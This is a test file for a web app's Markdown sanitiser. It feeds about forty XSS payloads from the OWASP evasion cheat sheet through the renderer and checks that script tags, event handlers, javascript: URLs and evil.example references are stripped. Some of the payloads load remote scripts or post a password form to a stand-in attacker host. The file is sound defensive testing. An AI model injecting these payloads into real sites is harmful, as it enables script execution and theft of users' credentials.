// Drop bodies: Markdown through a strict sanitiser. Known XSS payloads come out harmless.
import { describe, expect, it } from 'vitest';
import { mediaIdsIn, renderMarkdown, type MediaRef } from '$lib/server/drops/markdown';

const IMAGE: MediaRef = {
	id: '0b9f6c1e-2f4a-4c8e-9a57-3d2b1c0e9f11',
	kind: 'image',
	variants: [480, 960, 1600],
	width: 2400,
	height: 1200,
	alt: 'Studio'
};
const AUDIO: MediaRef = { ...IMAGE, id: '1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f', kind: 'audio', variants: [] };

/** Payloads from the OWASP XSS filter evasion cheat sheet and friends. */
const PAYLOADS = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<img src="https://ok.example/a.png" onload="alert(1)">',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<body onload=alert(1)>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe src="https://evil.example/"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="https://evil.example/x.swf"></object>',
	'<embed src="https://evil.example/x.swf">',
	'<a href="javascript:alert(1)">click</a>',
	'<a href="JaVaScRiPt:alert(1)">click</a>',
	'<a href="&#106;avascript:alert(1)">click</a>',
	'<a href=" javascript:alert(1)">click</a>',
	'<a href="vbscript:msgbox(1)">click</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
	'[click](javascript:alert(1))',
	'[click](JAVASCRIPT:alert(1))',
	'[click](data:text/html,<script>alert(1)</script>)',
	'![x](javascript:alert(1))',
	'![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
	'<img src="data:image/svg+xml,<svg onload=alert(1)>">',
	'<img srcset="javascript:alert(1) 1x">',
	'<div style="background:url(javascript:alert(1))">x</div>',
	'<p style="position:fixed;inset:0">cover</p>',
	'<form action="https://evil.example"><input name=password></form>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<link rel=stylesheet href=https://evil.example/x.css>',
	'<base href="https://evil.example/">',
	'<details open ontoggle=alert(1)>',
	'<video><source onerror="alert(1)"></video>',
	'<audio src=x onerror=alert(1)>',
	'<a href="//evil.example/">protocol-relative</a>',
	'<img src="//evil.example/pixel.gif">',
	'<x onclick=alert(1)>x</x>',
	'"><script>alert(1)</script>',
	'<scr<script>ipt>alert(1)</script>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
];

describe('renderMarkdown: XSS payloads', () => {
	it.each(PAYLOADS)('neutralises %s', (payload) => {
		const html = renderMarkdown(payload, [IMAGE]);
		expect(html).not.toMatch(/<script/i);
		expect(html).not.toMatch(/\son\w+\s*=/i); // no event handler attributes
		expect(html).not.toMatch(
			/(href|src|srcset|action|data|xlink:href)\s*=\s*["']?\s*(javascript|vbscript|data):/i
		);
		expect(html).not.toMatch(
			/<(svg|math|object|embed|form|input|meta|link|base|style|body|details|source)\b/i
		);
		expect(html).not.toMatch(/\sstyle\s*=/i);
		expect(html).not.toMatch(/\ssrcdoc\s*=/i);
		expect(html).not.toMatch(/(src|href)="\/\//i);
		expect(html).not.toContain('evil.example');
	});
});

describe('renderMarkdown: what staff write', () => {
	it('renders Markdown, with headings starting at h2 and safe links', () => {
		const html = renderMarkdown('# Big news\n\nSome **bold** and a [link](https://example.com).');
		expect(html).toContain('<h2>Big news</h2>');
		expect(html).toContain('<strong>bold</strong>');
		expect(html).toContain('<a href="https://example.com" rel="noopener noreferrer nofollow ugc">link</a>');
	});

	it('keeps iframes from the allowed players only, sandboxed', () => {
		const ok = renderMarkdown('<iframe src="https://bandcamp.com/EmbeddedPlayer/album=1/"></iframe>');
		expect(ok).toContain('src="https://bandcamp.com/EmbeddedPlayer/album=1/"');
		expect(ok).toContain('sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"');
		expect(renderMarkdown('<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>')).toBe('');
		expect(renderMarkdown('<iframe src="http://player.vimeo.com/video/1"></iframe>')).toBe('');
	});

	it('turns a YouTube or Vimeo link on its own line into a privacy-enhanced player', () => {
		expect(renderMarkdown('https://www.youtube.com/watch?v=aqz-KE-bpKQ')).toContain(
			'src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ"'
		);
		expect(renderMarkdown('https://vimeo.com/76979871')).toContain(
			'src="https://player.vimeo.com/video/76979871"'
		);
		// Inside a sentence it stays a plain link.
		expect(renderMarkdown('See https://www.youtube.com/watch?v=aqz-KE-bpKQ here')).not.toContain('<iframe');
	});

	it('turns an uploaded image into a responsive image on the authorised media route', () => {
		const html = renderMarkdown(`![On stage](media:${IMAGE.id})`, [IMAGE]);
		expect(html).toContain(`src="/drops/media/${IMAGE.id}/960.webp"`);
		expect(html).toContain(`/drops/media/${IMAGE.id}/480.webp 480w`);
		expect(html).toContain(`/drops/media/${IMAGE.id}/1600.webp 1600w`);
		expect(html).toContain('alt="On stage"');
		expect(html).toContain('width="1600" height="800"');
		expect(mediaIdsIn(html)).toEqual([IMAGE.id]);
	});

	it('plays uploaded audio; a reference to another drop’s file renders nothing', () => {
		expect(renderMarkdown(`![Demo](media:${AUDIO.id})`, [AUDIO])).toContain(
			`<audio controls preload="none" src="/drops/media/${AUDIO.id}/file"></audio>`
		);
		expect(renderMarkdown(`![x](media:${AUDIO.id})`, [IMAGE])).toBe('<p></p>');
	});

	it('only lets relative media URLs point at the media route', () => {
		expect(renderMarkdown('<img src="/logout">')).toBe('');
		expect(renderMarkdown('<img src="https://images.example/a.png" alt="a">')).toContain(
			'src="https://images.example/a.png"'
		);
	});
});
